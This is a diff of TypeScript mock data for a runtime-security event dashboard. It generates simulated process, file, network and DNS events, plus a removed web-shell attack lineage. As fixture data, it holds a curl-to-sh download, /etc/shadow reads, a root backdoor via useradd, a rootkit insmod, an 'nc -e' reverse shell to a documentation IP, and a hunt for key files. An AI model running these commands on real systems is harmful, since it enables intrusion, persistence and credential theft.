@@ -1,30 +1,73 @@
-import type { EventDetail, EventHistogram, EventRow, Lineage, LineageNode } from "../../src/core/api/events.ts";
+import type { EventDetail, EventHistogram, EventRow } from "../../src/core/api/events.ts";
 import type { SensorDetail } from "../../src/core/api/sensors.ts";
 import { KINDS, type EventKind } from "../../src/core/event/kinds.ts";
-import type { Severity } from "../../src/core/event/severity.ts";
 import { Seeded } from "./random.ts";
 
 const iso = (ms: number): string => new Date(ms).toISOString();
 const EPOCH = "9f2c81d06b7e4a35";
-const COMMON: readonly EventKind[] = ["process_exec", "process_exit", "network_connect", "dns_query", "file_open", "process_exec", "network_close", "process_exec", "network_accept", "dns_response"];
-const RARE: readonly EventKind[] = ["file_write", "setuid", "process_ptrace", "memfd_create", "process_exec_burst", "kernel_module", "file_delete", "engine_loss", "exec_memfd", "namespace_change"];
-const BINARIES = ["/usr/bin/curl", "/usr/sbin/nginx", "/usr/bin/bash", "/usr/bin/python3.11", "/usr/lib/postgresql/16/bin/postgres", "/usr/sbin/cron", "/usr/bin/apt-get"];
+const COMMON: readonly EventKind[] = [
+  "process_exec",
+  "process_exit",
+  "network_connect",
+  "dns_query",
+  "file_open",
+  "process_exec",
+  "network_close",
+  "process_exec",
+  "network_accept",
+  "dns_response",
+];
+const RARE: readonly EventKind[] = [
+  "file_write",
+  "setuid",
+  "process_ptrace",
+  "memfd_create",
+  "process_exec_burst",
+  "kernel_module",
+  "file_delete",
+  "engine_loss",
+  "exec_memfd",
+  "namespace_change",
+];
+const BINARIES = [
+  "/usr/bin/curl",
+  "/usr/sbin/nginx",
+  "/usr/bin/bash",
+  "/usr/bin/python3.11",
+  "/usr/lib/postgresql/16/bin/postgres",
+  "/usr/sbin/cron",
+  "/usr/bin/apt-get",
+];
 
 function message(kind: EventKind, binary: string, r: Seeded): string {
   const name = binary.split("/").at(-1);
-  switch (kind) {
-    case "process_exec": return `${name} was started by bash`;
-    case "process_exit": return `${name} ended with code ${r.pick([0, 0, 0, 1, 2])}`;
-    case "network_connect": return `${name} connected to 93.184.216.${r.int(2, 240)}:443 (updates.example.net)`;
-    case "network_close": return `${name} closed 93.184.216.34:443 after 1.2 s, 4.1 KiB sent, 88 KiB received`;
-    case "network_accept": return `${name} accepted 10.20.4.${r.int(2, 240)}:51234`;
-    case "dns_query": return `${name} asked for updates.example.net (A)`;
-    case "dns_response": return `${name} was told that updates.example.net is 93.184.216.34`;
-    case "file_open": return `${name} opened /etc/passwd for reading`;
-    case "file_write": return `${name} opened /etc/shadow for writing`;
-    case "setuid": return `${name} changed its user id from 33 to 0`;
-    case "engine_loss": return `${r.int(40, 2400)} events were lost in the kernel: ring buffer full`;
-    default: return `${name}: ${KINDS[kind].title.toLowerCase()}`;
+  // The few kinds worth a sentence of their own here; the rest say their title.
+  const spoken: string = kind;
+  switch (spoken) {
+    case "process_exec":
+      return `${name} was started by bash`;
+    case "process_exit":
+      return `${name} ended with code ${r.pick([0, 0, 0, 1, 2])}`;
+    case "network_connect":
+      return `${name} connected to 93.184.216.${r.int(2, 240)}:443 (updates.example.net)`;
+    case "network_close":
+      return `${name} closed 93.184.216.34:443 after 1.2 s, 4.1 KiB sent, 88 KiB received`;
+    case "network_accept":
+      return `${name} accepted 10.20.4.${r.int(2, 240)}:51234`;
+    case "dns_query":
+      return `${name} asked for updates.example.net (A)`;
+    case "dns_response":
+      return `${name} was told that updates.example.net is 93.184.216.34`;
+    case "file_open":
+      return `${name} opened /etc/passwd for reading`;
+    case "file_write":
+      return `${name} opened /etc/shadow for writing`;
+    case "setuid":
+      return `${name} changed its user id from 33 to 0`;
+    case "engine_loss":
+      return `${r.int(40, 2400)} events were lost in the kernel: ring buffer full`;
+    default:
+      return `${name}: ${KINDS[kind].title.toLowerCase()}`;
   }
 }
 
@@ -35,33 +78,119 @@ export function makeRow(n: number, fleet: readonly SensorDetail[], atMs: number)
   const sensor = r.pick(fleet);
   const binary = kind === "engine_loss" ? "" : r.pick(BINARIES);
   return {
-    event_id: `${sensor.sensor_id}.${EPOCH}.${1_000_000 + n}`, sensor_id: sensor.sensor_id, node_name: sensor.node_name, kind, severity: KINDS[kind].severity,
-    observed_at: iso(atMs).replace("Z", `${String(n % 1000).padStart(3, "0")}Z`), ingested_at: iso(atMs + 240), message: message(kind, binary, r), process_executable: binary,
-    process_arguments: binary.endsWith("curl") ? "-fsSL https://updates.example.net/x.sh -o /tmp/.x" : "--config /etc/main.conf", pid: binary ? r.int(900, 64_000) : 0, uid: r.pick([0, 33, 1000]), exec_id: binary ? `bm9kZTox${r.hex(12)}OjEyMw==` : "", container_id: r.next() < 0.2 ? r.hex(64) : "",
+    event_id: `${sensor.sensor_id}.${EPOCH}.${1_000_000 + n}`,
+    sensor_id: sensor.sensor_id,
+    node_name: sensor.node_name,
+    kind,
+    severity: KINDS[kind].severity,
+    observed_at: iso(atMs).replace("Z", `${String(n % 1000).padStart(3, "0")}Z`),
+    ingested_at: iso(atMs + 240),
+    message: message(kind, binary, r),
+    process_executable: binary,
+    process_arguments: binary.endsWith("curl")
+      ? "-fsSL https://updates.example.net/x.sh -o /tmp/.x"
+      : "--config /etc/main.conf",
+    pid: binary ? r.int(900, 64_000) : 0,
+    uid: r.pick([0, 33, 1000]),
+    exec_id: binary ? `bm9kZTox${r.hex(12)}OjEyMw==` : "",
+    container_id: r.next() < 0.2 ? r.hex(64) : "",
   };
 }
 
 /** An event with all its sections. */
 export function makeDetail(row: EventRow): EventDetail {
-  const common = { seq: Number(row.event_id.split(".")[2]), kind: row.kind, severity: row.severity, observed_at_us: Date.parse(row.observed_at) * 1000, message: row.message };
+  const common = {
+    seq: Number(row.event_id.split(".")[2]),
+    kind: row.kind,
+    severity: row.severity,
+    observed_at_us: Date.parse(row.observed_at) * 1000,
+    message: row.message,
+  };
   const event: EventDetail["event"] = {
     ...common,
     process: {
-      exec_id: row.exec_id, parent_exec_id: "cGFyZW50", pid: row.pid, ppid: 812, tid: row.pid, uid: row.uid ?? 0, gid: 33, auid: 1000, binary: row.process_executable, comm: "curl", argv: [row.process_executable, ...row.process_arguments.split(" ")], cwd: "/var/www/html/uploads", start_time_us: (Date.parse(row.observed_at) - 4000) * 1000, cap_effective: "00000000a80425fb", flags: "execve clone", ns: { mnt: 4026532281, pid: 4026532284, net: 4026531992 }, parent_binary: "/usr/bin/bash",
+      exec_id: row.exec_id,
+      parent_exec_id: "cGFyZW50",
+      pid: row.pid,
+      ppid: 812,
+      tid: row.pid,
+      uid: row.uid ?? 0,
+      gid: 33,
+      auid: 1000,
+      binary: row.process_executable,
+      comm: "curl",
+      argv: [row.process_executable, ...row.process_arguments.split(" ")],
+      cwd: "/var/www/html/uploads",
+      start_time_us: (Date.parse(row.observed_at) - 4000) * 1000,
+      cap_effective: "00000000a80425fb",
+      flags: "execve clone",
+      ns: { mnt: 4026532281, pid: 4026532284, net: 4026531992 },
+      parent_binary: "/usr/bin/bash",
       ancestors: [
-        { exec_id: "YmFzaA==", pid: 812, binary: "/usr/bin/bash", uid: 33, arguments: "-c curl -fsSL https://updates.example.net/x.sh" },
+        {
+          exec_id: "YmFzaA==",
+          pid: 812,
+          binary: "/usr/bin/bash",
+          uid: 33,
+          arguments: "-c curl -fsSL https://updates.example.net/x.sh",
+        },
         { exec_id: "cGhw", pid: 640, binary: "/usr/sbin/php-fpm8.2", uid: 33, arguments: "pool www" },
         { exec_id: "aW5pdA==", pid: 1, binary: "/usr/lib/systemd/systemd", uid: 0 },
       ],
     },
-    ...(row.kind.startsWith("file") ? { file: { path: row.kind === "file_write" ? "/etc/shadow" : "/etc/passwd", flags: "O_RDWR|O_CREAT|O_CLOEXEC", mode: "0640", watch: "W /etc/shadow", toctou: true } } : {}),
-    ...(row.kind.startsWith("network") ? { network: { family: "inet" as const, protocol: "tcp" as const, direction: "outbound" as const, local_addr: "10.20.4.17", local_port: 51_234, remote_addr: "93.184.216.34", remote_port: 443, dns_hostname: "updates.example.net", bytes_sent: 4210, bytes_received: 90_112, duration_us: 1_204_000 } } : {}),
-    ...(row.kind.startsWith("dns") ? { dns: { id: 4711, query: "updates.example.net", qtype: "A", rcode: "NOERROR", answers: [{ name: "updates.example.net", type: "A", ttl: 300, data: "93.184.216.34" }] } } : {}),
+    ...(row.kind.startsWith("file")
+      ? {
+          file: {
+            path: row.kind === "file_write" ? "/etc/shadow" : "/etc/passwd",
+            flags: "O_RDWR|O_CREAT|O_CLOEXEC",
+            mode: "0640",
+            watch: "W /etc/shadow",
+            toctou: true,
+          },
+        }
+      : {}),
+    ...(row.kind.startsWith("network")
+      ? {
+          network: {
+            family: "inet" as const,
+            protocol: "tcp" as const,
+            direction: "outbound" as const,
+            local_addr: "10.20.4.17",
+            local_port: 51_234,
+            remote_addr: "93.184.216.34",
+            remote_port: 443,
+            dns_hostname: "updates.example.net",
+            bytes_sent: 4210,
+            bytes_received: 90_112,
+            duration_us: 1_204_000,
+          },
+        }
+      : {}),
+    ...(row.kind.startsWith("dns")
+      ? {
+          dns: {
+            id: 4711,
+            query: "updates.example.net",
+            qtype: "A",
+            rcode: "NOERROR",
+            answers: [{ name: "updates.example.net", type: "A", ttl: 300, data: "93.184.216.34" }],
+          },
+        }
+      : {}),
     workload: { unit: "php8.2-fpm.service", cgroup: "/system.slice/php8.2-fpm.service" },
     hook: { function_name: "sys_openat", policy_name: "telovix-file-open", backend: "raw_tp", return_value: 3, cpu: 2 },
     tags: ["credentials"],
   };
-  const raw = JSON.stringify({ process_kprobe: { process: { exec_id: row.exec_id, pid: row.pid, binary: row.process_executable }, function_name: "sys_openat", args: [{ int_arg: -100 }, { file_arg: { path: "/etc/shadow", flags: "O_RDWR" } }] }, node_name: row.node_name, time: row.observed_at, telovix: { seq: "88123", backend: "raw_tp" } });
+  const raw = JSON.stringify({
+    process_kprobe: {
+      process: { exec_id: row.exec_id, pid: row.pid, binary: row.process_executable },
+      function_name: "sys_openat",
+      args: [{ int_arg: -100 }, { file_arg: { path: "/etc/shadow", flags: "O_RDWR" } }],
+    },
+    node_name: row.node_name,
+    time: row.observed_at,
+    telovix: { seq: "88123", backend: "raw_tp" },
+  });
   return { ...row, event, raw, epoch: EPOCH, seq: common.seq };
 }
 
@@ -75,44 +204,31 @@ export function makeHistogram(fromMs: number, toMs: number): EventHistogram {
   for (let at = start; at < toMs; at += stepMs) {
     const i = buckets.length;
     const burst = i > 52 && i < 57 ? 3.2 : 1;
-    buckets.push({ at: iso(at), info: Math.round((180 + 60 * Math.sin(i / 9) + r.int(0, 40)) * burst), warning: r.int(2, 14) * (burst > 1 ? 6 : 1), high: burst > 1 ? r.int(8, 24) : r.int(0, 3), critical: burst > 1 ? r.int(4, 9) : r.next() < 0.06 ? 1 : 0 });
+    buckets.push({
+      at: iso(at),
+      info: Math.round((180 + 60 * Math.sin(i / 9) + r.int(0, 40)) * burst),
+      warning: r.int(2, 14) * (burst > 1 ? 6 : 1),
+      high: burst > 1 ? r.int(8, 24) : r.int(0, 3),
+      critical: burst > 1 ? r.int(4, 9) : r.next() < 0.06 ? 1 : 0,
+    });
   }
   const at = (part: number): string => iso(fromMs + (toMs - fromMs) * part);
   return {
-    from: iso(fromMs), to: iso(toMs), step_secs: stepMs / 1000, buckets,
+    from: iso(fromMs),
+    to: iso(toMs),
+    step_secs: stepMs / 1000,
+    buckets,
     blind: [
-      { from: at(0.58), to: at(0.62), sensor_id: "x", node_name: "web-18", cause: "kernel ring buffer full", count: 1204 },
+      {
+        from: at(0.58),
+        to: at(0.62),
+        sensor_id: "x",
+        node_name: "web-18",
+        cause: "kernel ring buffer full",
+        count: 1204,
+      },
       { from: at(0.2), to: at(0.23), sensor_id: "y", node_name: "edge-18", cause: "spool full", count: 311 },
     ],
     total: buckets.reduce((n, b) => n + b.info + b.warning + b.high + b.critical, 0),
   };
-}
-
-function node(id: string, parent: string | null, binary: string, args: string, startMs: number | null, endMs: number | null, more: Partial<LineageNode> = {}): LineageNode {
-  return { exec_id: id, parent_exec_id: parent, pid: 1, uid: 33, binary, arguments: args, started_at: startMs === null ? null : iso(startMs), ended_at: endMs === null ? null : iso(endMs), exit_code: endMs === null ? null : 0, exit_signal: null, container_id: "", inferred: false, counts: { files: 0, connections: 0, dns: 0, warnings: 0 }, severity: "info", children_total: 0, ...more };
-}
-
-/** A web shell's night out; `crowd` adds that many equal children. */
-export function makeLineage(sensor: SensorDetail, nowMs: number, crowd: number): Lineage {
-  const t = nowMs - 90_000;
-  const counts = (files: number, connections: number, dns: number, warnings: number) => ({ counts: { files, connections, dns, warnings } });
-  const high: Severity = "high";
-  const nodes: LineageNode[] = [
-    node("init", null, "/usr/lib/systemd/systemd", "--system --deserialize 31", nowMs - 41 * 86_400e3, null, { pid: 1, uid: 0, inferred: true, children_total: 88 }),
-    node("fpm", "init", "/usr/sbin/php-fpm8.2", "--nodaemonize --fpm-config /etc/php/8.2/fpm/php-fpm.conf", nowMs - 9 * 86_400e3, null, { pid: 640, uid: 0, ...counts(12, 2, 0, 0), children_total: 3 }),
-    node("pool", "fpm", "/usr/sbin/php-fpm8.2", "pool www", t - 4000, null, { pid: 1811, ...counts(3, 41, 2, 0), children_total: 2 }),
-    node("sh", "pool", "/usr/bin/bash", "-c curl -fsSL https://updates.example.net/x.sh | sh", t, t + 61_000, { pid: 20_113, ...counts(4, 0, 0, 1), severity: "warning", children_total: 2 }),
-    node("curl", "sh", "/usr/bin/curl", "-fsSL https://updates.example.net/x.sh", t + 120, t + 1400, { pid: 20_114, ...counts(2, 1, 1, 0) }),
-    node("sh2", "sh", "/usr/bin/dash", "", t + 140, t + 60_900, { pid: 20_115, ...counts(1, 0, 0, 2), severity: "warning", children_total: 18 }),
-    node("focus", "sh2", "/usr/bin/python3.11", "-c import pty; pty.spawn('/bin/bash')", t + 2600, t + 58_000, { pid: 20_131, uid: 0, ...counts(7, 3, 1, 4), severity: "critical", children_total: 4, exit_code: null, exit_signal: "SIGKILL" }),
-    node("bash", "focus", "/usr/bin/bash", "-i", t + 2900, t + 57_900, { pid: 20_140, uid: 0, ...counts(11, 1, 0, 1), severity: high, children_total: 6 }),
-    node("id", "bash", "/usr/bin/id", "", t + 9000, t + 9010, { pid: 20_151, uid: 0 }),
-    node("cat", "bash", "/usr/bin/cat", "/etc/shadow", t + 14_000, t + 14_012, { pid: 20_160, uid: 0, ...counts(1, 0, 0, 1), severity: high }),
-    node("useradd", "bash", "/usr/sbin/useradd", "-o -u 0 -g 0 -M -d /root -s /bin/bash support", t + 23_000, t + 23_240, { pid: 20_177, uid: 0, ...counts(6, 0, 0, 2), severity: "critical" }),
-    node("insmod", "bash", "/usr/sbin/insmod", "/tmp/.x/diamorphine.ko", t + 36_000, t + 36_050, { pid: 20_190, uid: 0, ...counts(1, 0, 0, 1), severity: "critical", exit_code: 1 }),
-    node("nc", "bash", "/usr/bin/nc", "-e /bin/bash 203.0.113.9 4444", t + 41_000, t + 57_800, { pid: 20_204, uid: 0, ...counts(0, 1, 0, 1), severity: high }),
-    ...Array.from({ length: 14 }, (_, i) => node(`sleep${i}`, "sh2", "/usr/bin/sleep", "4", t + 3000 + i * 4000, t + 7000 + i * 4000, { pid: 20_300 + i })),
-    ...Array.from({ length: crowd }, (_, i) => node(`w${i}`, i < 40 ? "bash" : `w${Math.floor(i / 8)}`, "/usr/bin/find", `/srv/share-${i} -name *.key`, t + 43_000 + i * 25, t + 43_400 + i * 28, { pid: 21_000 + i, ...counts(i % 5, 0, 0, 0), exit_code: i % 9 === 0 ? 1 : 0 })),
-  ];
-  return { sensor_id: sensor.sensor_id, node_name: sensor.node_name, focus_exec_id: "focus", nodes, left_out: crowd > 100 ? 212 : 0, took_ms: 41 };
 }
